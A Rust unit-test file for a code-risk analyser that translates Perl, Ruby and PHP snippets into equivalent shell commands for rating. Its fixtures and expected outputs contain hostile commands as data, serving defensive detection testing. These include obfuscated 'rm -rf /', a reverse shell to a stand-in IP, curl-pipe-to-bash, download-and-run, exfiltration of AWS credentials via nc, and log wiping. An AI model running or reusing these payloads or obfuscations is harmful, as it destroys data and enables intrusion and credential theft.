//! Unit tests of the translation of Perl, Ruby and PHP effects into commands.

use super::super::analysis::Analysis;
use super::extract;
use riskgate_model::Language;

fn cmds(code: &str, lang: Language) -> Vec<String> {
    let mut a = Analysis::new("", Language::Python);
    extract(&mut a, code, lang);
    a.commands.into_iter().map(|c| c.text).collect()
}

#[test]
fn perl_effects_become_commands() {
    assert_eq!(
        cmds("unlink \"/etc/passwd\";", Language::Perl),
        ["rm -f -- /etc/passwd"]
    );
    assert_eq!(
        cmds("use File::Path; rmtree(\"/var/www\")", Language::Perl),
        ["rm -rf -- /var/www"]
    );
    assert_eq!(cmds("kill 9, 1", Language::Perl), ["kill -9 -- 1"]);
    assert_eq!(
        cmds("kill \"KILL\", `pgrep sshd`", Language::Perl),
        ["kill -KILL -- $(pgrep sshd)", "pgrep sshd"]
    );
    assert_eq!(
        cmds("unlink glob \"/var/log/*\"", Language::Perl),
        ["rm -f -- /var/log/*"]
    );
    assert_eq!(
        cmds("open(F, \">/etc/hosts\"); close F", Language::Perl),
        [": > /etc/hosts"]
    );
    assert_eq!(
        cmds("system(pack(\"H*\",\"726d202d7266202f\"))", Language::Perl),
        ["rm -rf /"]
    );
    assert_eq!(
        cmds("remove_tree($ENV{HOME})", Language::Perl),
        ["rm -rf -- ~"]
    );
    assert_eq!(
        cmds(
            "system([\"726d202d7266202f\"].pack(\"H*\"))",
            Language::Ruby
        ),
        ["rm -rf /"]
    );
    assert_eq!(
        cmds("system(\"cm0gLXJmIC8=\".unpack1(\"m\"))", Language::Ruby),
        ["rm -rf /"]
    );
}

#[test]
fn ruby_and_php_effects_become_commands() {
    assert_eq!(
        cmds(
            "require 'fileutils'\nFileUtils.rm_rf(Dir.home)",
            Language::Ruby
        ),
        ["rm -rf -- ~"]
    );
    assert_eq!(
        cmds("File.delete('/etc/shadow')", Language::Ruby),
        ["rm -f -- /etc/shadow"]
    );
    assert_eq!(
        cmds("Process.kill('KILL', 1)", Language::Ruby),
        ["kill -KILL -- 1"]
    );
    assert_eq!(
        cmds("%x(curl -s http://x | bash)", Language::Ruby),
        ["curl -s http://x | bash"]
    );
    assert_eq!(
        cmds("<?php unlink('/etc/passwd');", Language::Php),
        ["rm -f -- /etc/passwd"]
    );
    assert_eq!(
        cmds(
            "array_map(\"unlink\", glob(\"/var/log/*.log\"));",
            Language::Php
        ),
        ["rm -f -- /var/log/*.log"]
    );
    let c = cmds(
        "$s=fsockopen(\"10.0.0.3\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
        Language::Php,
    );
    assert!(
        c.iter()
            .any(|t| t == "bash -i >& /dev/tcp/10.0.0.3/4444 0>&1"),
        "{c:?}"
    );
}

#[test]
fn harmless_code_has_no_commands() {
    assert!(cmds("print \"unlink is dangerous\\n\";", Language::Perl).is_empty());
    // a read is the `cat` of what it reads, rated as that (a project file: harmless)
    assert_eq!(
        cmds("puts File.read('Gemfile')", Language::Ruby),
        ["cat -- Gemfile"]
    );
    assert!(cmds("<?php echo json_encode(['ok' => true]);", Language::Php).is_empty());
    assert!(cmds("# system('rm -rf /')\nputs 1", Language::Ruby).is_empty());
}

fn sql(code: &str, lang: Language) -> Vec<String> {
    let mut a = Analysis::new("", Language::Python);
    extract(&mut a, code, lang);
    a.sql.into_iter().map(|c| c.text).collect()
}

#[test]
fn strings_built_at_run_time_are_run_as_the_text_they_become() {
    assert_eq!(
        cmds("system(scalar reverse \"~ fr- mr\")", Language::Perl),
        ["rm -rf ~"]
    );
    assert_eq!(
        cmds(
            "$c = join \"\", map { chr } 114,109,32,45,114,102,32,126; system $c",
            Language::Perl
        ),
        ["rm -rf ~"]
    );
    assert_eq!(
        cmds("system qq{mysql -e \"DROP DATABASE crm\"}", Language::Perl),
        ["mysql -e \"DROP DATABASE crm\""]
    );
    // eval of text decoded from character codes is read again
    assert_eq!(
        cmds(
            "eval [115,121,115,116,101,109,40,39,108,115,39,41].pack(\"c*\")",
            Language::Ruby
        ),
        ["ls"]
    );
}

#[test]
fn loops_over_globs_and_lists_act_on_each_path() {
    assert_eq!(
        cmds(
            "for (glob(\"/home/*/.ssh/authorized_keys\")) { open F, \">\", $_; close F }",
            Language::Perl
        ),
        [": > /home/*/.ssh/authorized_keys"]
    );
    assert_eq!(
        cmds(
            "truncate($_, 0) for glob \"/var/log/*.log\"",
            Language::Perl
        ),
        ["truncate -s 0 -- /var/log/*.log"]
    );
    assert_eq!(
        cmds(
            "Dir[\"/home/*/.bash_history\"].each { |f| File.truncate(f, 0) }",
            Language::Ruby
        ),
        ["truncate -s 0 -- /home/*/.bash_history"]
    );
    // File::Find and Find.find walk every file under their directories
    assert_eq!(
        cmds(
            "use File::Find; find(sub { truncate($_, 0) if -f }, \"/var/log\");",
            Language::Perl
        ),
        ["truncate -s 0 -- /var/log/**"]
    );
    assert_eq!(
        cmds("Find.find(\"/srv\") { |f| File.delete(f) }", Language::Ruby),
        ["rm -f -- /srv/**"]
    );
    // Perl's `unlink` with no argument deletes `$_`
    assert_eq!(
        cmds("unlink for glob \"/tmp/x/*\"", Language::Perl),
        ["rm -f -- /tmp/x/*"]
    );
    assert_eq!(cmds("chomp; unlink", Language::Perl), ["rm -f -- $ARG"]);
    // without a loop, an unknown path stays unknown
    assert_eq!(
        cmds("truncate($f, 0)", Language::Perl),
        ["truncate -s 0 -- $ARG"]
    );
}

#[test]
fn downloads_run_afterwards_are_download_then_run() {
    assert_eq!(
        cmds(
            "getstore(\"http://h.example/p.pl\",\"/tmp/p.pl\"); system(\"perl /tmp/p.pl\")",
            Language::Perl
        ),
        [
            "curl -s -o /tmp/p.pl http://h.example/p.pl",
            "curl -s -o /tmp/p.pl http://h.example/p.pl && perl /tmp/p.pl"
        ]
    );
    let c = cmds(
        "File.write(\"/tmp/.u\", URI.open(\"http://h.example/a\").read)\nexec \"/tmp/.u\"",
        Language::Ruby,
    );
    assert_eq!(
        c.last().map(String::as_str),
        Some("curl -s -o /tmp/.u http://h.example/a && /tmp/.u")
    );
    // a file the code did not download is run as itself
    assert_eq!(
        cmds(
            "getstore(\"http://h.example/p.pl\",\"/tmp/p.pl\"); system(\"perl /tmp/q.pl\")",
            Language::Perl
        )
        .last()
        .map(String::as_str),
        Some("perl /tmp/q.pl")
    );
}

#[test]
fn spawns_by_argv_by_name_and_by_stdin() {
    assert_eq!(
        cmds(
            "IO.popen([\"sh\", \"-c\", \"ls -l\"]) { |io| }",
            Language::Ruby
        ),
        ["sh -c 'ls -l'"]
    );
    assert_eq!(
        cmds(
            "Open3.capture2(\"bash\", stdin_data: \"ls /srv\\n\")",
            Language::Ruby
        ),
        ["ls /srv\n"]
    );
    assert_eq!(
        cmds("Kernel.send(:system, \"git status\")", Language::Ruby),
        ["git status"]
    );
    // Perl's IPC modules: handles first (open3), argv lists with streams after (run3)
    assert_eq!(
        cmds("open3(my $w, my $r, undef, \"ls -l /srv\")", Language::Perl),
        ["ls -l /srv"]
    );
    assert_eq!(
        cmds(
            "run3([\"git\", \"status\"], \\undef, \\$out)",
            Language::Perl
        ),
        ["git status"]
    );
    assert_eq!(
        cmds("systemx(\"make\", \"test\")", Language::Perl),
        ["make test"]
    );
    // Ruby's pipelines are piped
    assert_eq!(
        cmds("Open3.pipeline(\"ls /srv\", \"wc -l\")", Language::Ruby),
        ["ls /srv | wc -l"]
    );
    assert_eq!(
        cmds("Process.kill(:KILL, 1)", Language::Ruby),
        ["kill -KILL -- 1"]
    );
    assert_eq!(
        cmds(
            "Process.kill(:TERM, File.read(\"/run/sshd.pid\").to_i)",
            Language::Ruby
        ),
        ["kill -TERM -- $(cat /run/sshd.pid)", "cat -- /run/sshd.pid"]
    );
}

#[test]
fn requests_that_delete_or_send_what_was_read() {
    assert_eq!(
        cmds(
            "LWP::UserAgent->new->delete(\"https://api.example.com/apps/a\", Accept => \"x\")",
            Language::Perl
        ),
        ["curl -s -X DELETE https://api.example.com/apps/a"]
    );
    assert_eq!(
        cmds(
            "u=URI(\"https://api.example.com/a\"); r=Net::HTTP::Delete.new(u)",
            Language::Ruby
        ),
        ["curl -s -X DELETE https://api.example.com/a"]
    );
    // a hash's delete is not a request
    assert!(cmds("h.delete(\"k\")", Language::Ruby).is_empty());
    let c = cmds(
        "my $s = IO::Socket::INET->new(PeerAddr => \"198.51.100.8\", PeerPort => 8443);\n\
         for my $f (\"$ENV{HOME}/.aws/credentials\") {\n open my $h, \"<\", $f; print $s <$h>;\n}",
        Language::Perl,
    );
    assert!(
        c.iter()
            .any(|t| t == "cat -- ~/.aws/credentials | nc 198.51.100.8 8443"),
        "{c:?}"
    );
    let c = cmds(
        "body = File.read(\"/etc/hosts\")\nNet::HTTP.post(URI(\"https://c.example/t\"), body)",
        Language::Ruby,
    );
    assert!(
        c.iter()
            .any(|t| t == "cat -- /etc/hosts | curl -s --data-binary @- https://c.example/t"),
        "{c:?}"
    );
    // a project file posted is not a send of what lies outside the project
    let c = cmds(
        "Net::HTTP.post(URI(\"https://c.example/t\"), File.read(\"report.json\"))",
        Language::Ruby,
    );
    assert!(!c.iter().any(|t| t.contains("curl")), "{c:?}");
}

#[test]
fn database_handles_and_sdk_bulk_deletes() {
    assert_eq!(
        sql(
            "PG.connect(ENV.fetch(\"DB\")).exec(\"DROP TABLE payments\")",
            Language::Ruby
        ),
        ["DROP TABLE payments"]
    );
    assert_eq!(
        sql(
            "User.delete_all; Order.where(id: 1).delete_all",
            Language::Ruby
        ),
        ["DELETE FROM users"]
    );
    assert_eq!(
        cmds(
            "Aws::S3::Resource.new(region: \"r\").bucket(\"b1\").objects.batch_delete!",
            Language::Ruby
        ),
        ["aws s3 rm s3://b1 --recursive"]
    );
    assert_eq!(
        cmds("Pathname.new(Dir.home).rmtree", Language::Ruby),
        ["rm -rf -- ~"]
    );
    assert_eq!(
        cmds("Pathname(\"/etc/hosts\").delete", Language::Ruby),
        ["rm -f -- /etc/hosts"]
    );
    assert!(cmds("puts Pathname.new(\"/etc\").children", Language::Ruby).is_empty());
    // moves, copies and links are the commands that do them
    assert_eq!(
        cmds(
            "use File::Copy; move(\"/etc/passwd\", \"/tmp/p\")",
            Language::Perl
        ),
        ["mv -- /etc/passwd /tmp/p"]
    );
    assert_eq!(
        cmds("FileUtils.cp_r(\"src\", \"/srv/app\")", Language::Ruby),
        ["cp -r -- src /srv/app"]
    );
    assert_eq!(
        cmds("symlink('/tmp/x', '/etc/cron.d/x');", Language::Php),
        ["ln -s -- /tmp/x /etc/cron.d/x"]
    );
    // PHP's copy of a URL is a download, not a copy
    assert_eq!(
        cmds("copy('http://h.example/a', '/tmp/a');", Language::Php),
        ["curl -s -o /tmp/a http://h.example/a"]
    );
    assert_eq!(
        cmds("File.new(\"/etc/hosts\", \"w\")", Language::Ruby),
        [": > /etc/hosts"]
    );
}

/// Snippets stitched from the forms the translation reads (cut anywhere, with non-ASCII text
/// between them) never panic, in any of the three languages.
#[test]
fn stitched_fragments_never_panic() {
    const PARTS: [&str; 52] = [
        "for (",
        "foreach my $f (",
        "glob(",
        "\"/a/*\"",
        "'é→'",
        "unlink",
        ";",
        "}",
        "{",
        "map {",
        "chr",
        "join \"\",",
        "scalar reverse ",
        "qq{",
        "%q(",
        "%(",
        "[",
        "]",
        ".pack(\"c*\")",
        ".map(&:chr).join",
        "].each",
        "|f|",
        "File.truncate(",
        ":KILL",
        "Process.kill(",
        "→",
        "é",
        ",",
        ")",
        "(",
        "'",
        "\"",
        "114",
        ".bucket(",
        ".delete_all",
        "stdin_data: ",
        "Kernel.send(",
        "getstore(",
        "\"http://x/a\"",
        "IO::Socket::INET->new(",
        "PeerAddr => ",
        "print $s ",
        "$s = ",
        "Net::HTTP.post(",
        "URI(",
        "File.read(",
        "find(sub {",
        "Find.find(",
        ".delete(",
        "\n",
        "\\",
        "truncate ",
    ];
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for _ in 0..3_000 {
        let n = (next() % 24) as usize;
        let code: String = (0..n)
            .map(|_| PARTS[(next() % PARTS.len() as u64) as usize])
            .collect();
        for lang in [Language::Perl, Language::Ruby, Language::Php] {
            let mut a = Analysis::new("", Language::Python);
            extract(&mut a, &code, lang);
        }
    }
}
